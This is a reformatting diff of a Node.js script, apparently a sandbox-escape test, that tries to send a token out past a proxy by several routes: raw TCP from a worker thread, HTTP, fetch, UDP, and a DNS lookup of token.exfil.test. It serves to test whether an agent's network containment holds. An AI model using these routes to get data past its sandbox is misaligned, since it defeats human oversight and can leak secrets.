@@ -1,4 +1,5 @@
-// What an ordinary program of the agent's own does that never heard of a proxy: direct.mjs VERB ADDRESS PORT TOKEN.
+// What an ordinary program of the agent's own does that never heard of a proxy: direct.mjs VERB
+// ADDRESS PORT TOKEN.
 import { createSocket } from "node:dgram";
 import { Resolver } from "node:dns";
 import { get } from "node:http";
@@ -12,7 +13,8 @@ const port = Number(digits);
  * @param {string} outcome
  * @param {unknown} detail
  */
-const say = (outcome, detail) => void process.stdout.write(`${JSON.stringify({ outcome, detail: String(detail) })}\n`);
+const say = (outcome, detail) =>
+  void process.stdout.write(`${JSON.stringify({ outcome, detail: String(detail) })}\n`);
 /** @param {any} error */
 const fail = (error) => say("refused", error.cause?.code ?? error.code ?? error.message);
 
@@ -28,7 +30,9 @@ const verbs = {
   worker() {
     const code =
       "const [host, port, token] = require('node:worker_threads').workerData; require('node:net').connect({ host, port }).end(token)";
-    new Worker(code, { eval: true, workerData: [host, port, token] }).on("error", fail).on("exit", () => say("tried", "sent"));
+    new Worker(code, { eval: true, workerData: [host, port, token] })
+      .on("error", fail)
+      .on("exit", () => say("tried", "sent"));
   },
   // Neither the agent nor the fetch of Node looks at the variables unless it is told to.
   request() {
@@ -38,7 +42,11 @@ const verbs = {
     });
     request.on("error", fail);
   },
-  fetch: () => fetch(`http://${host}:${port}/${token}`).then((response) => say("tried", response.status), fail),
+  fetch: () =>
+    fetch(`http://${host}:${port}/${token}`).then(
+      (response) => say("tried", response.status),
+      fail,
+    ),
   udp() {
     const socket = createSocket("udp4");
     socket.on("error", fail).send(token, port, host, (error) => {
@@ -50,7 +58,9 @@ const verbs = {
   dns() {
     const resolver = new Resolver({ timeout: 300, tries: 1 });
     resolver.setServers([`${host}:${port}`]);
-    resolver.resolveTxt(`${token}.exfil.test`, (error) => say(error === null ? "escaped" : "tried", error?.code ?? "answered"));
+    resolver.resolveTxt(`${token}.exfil.test`, (error) =>
+      say(error === null ? "escaped" : "tried", error?.code ?? "answered"),
+    );
   },
 };
 verbs[verb]?.();
